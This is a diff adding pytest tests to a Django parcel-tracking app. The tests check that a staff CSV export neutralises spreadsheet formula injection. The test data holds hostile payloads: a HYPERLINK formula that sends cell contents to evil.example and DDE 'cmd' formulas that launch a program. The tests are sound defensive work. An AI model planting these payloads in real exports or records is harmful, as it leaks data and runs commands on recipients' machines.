@@ -6,7 +6,9 @@ import io
 import pytest
 from django.utils import timezone
 
+from tests import factories
 from tests.tracking.admin.conftest import shipment_made_yesterday
+from tests.tracking.api.support import ApiClient
 from tracking.services import event_record
 
 pytestmark = pytest.mark.django_db
@@ -42,3 +44,55 @@ def test_a_dispatcher_exports_without_personal_data(dispatcher, shipment):
     assert [r["tracking_number"] for r in rows] == [shipment.tracking_number]
     assert "recipient_name" not in rows[0] and "recipient_phone" not in rows[0]
     assert "Fernanda" not in str(rows)
+
+
+FORMULAS = {
+    "reference": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    "recipient_name": "=cmd|' /C calc'!A0",
+    "recipient_address": "@SUM(1+9)*cmd|' /C calc'!A0",
+}
+
+
+def test_it_neutralises_formulas_sent_through_the_api_in_the_staff_export(customer_service):
+    factories.facility("MEX01", city="Ciudad de México", state="CDMX")
+    factories.facility("GDL01", city="Guadalajara", state="Jalisco")
+    _, key = factories.partner_token()
+    created = ApiClient(key).post(
+        "/api/v1/shipments",
+        {
+            "reference": FORMULAS["reference"],
+            "weight_grams": 1200,
+            "origin_facility": "MEX01",
+            "destination_facility": "GDL01",
+            "recipient": {
+                "name": FORMULAS["recipient_name"],
+                "phone": "+52 33 1234 5678",
+                "email": "fernanda@example.com",
+                "address": FORMULAS["recipient_address"],
+                "city": "Guadalajara",
+                "postal_code": "44100",
+            },
+        },
+    )
+    assert created.status_code == 201, created.content
+    number = created.json()["tracking_number"]
+
+    (row,) = _export(customer_service, f"q={number}")
+
+    # A single quote first (the OWASP advice): a spreadsheet shows the text and runs nothing.
+    for column, payload in FORMULAS.items():
+        assert row[column] == "'" + payload, column
+    # A phone number keeps its digits and is not taken for a formula either.
+    assert row["recipient_phone"] == "'+52 33 1234 5678"
+    assert row["tracking_number"] == number
+    assert row["weight_grams"] == "1200"
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
+def test_it_neutralises_every_cell_that_a_spreadsheet_would_read_as_a_formula(customer_service, first):
+    shipment = shipment_made_yesterday(reference=f"{first}1+1")
+
+    (row,) = _export(customer_service, f"q={shipment.tracking_number}")
+
+    assert row["reference"] == f"'{first}1+1"
+    assert row["recipient_name"] == "Fernanda Ruiz Ortega"
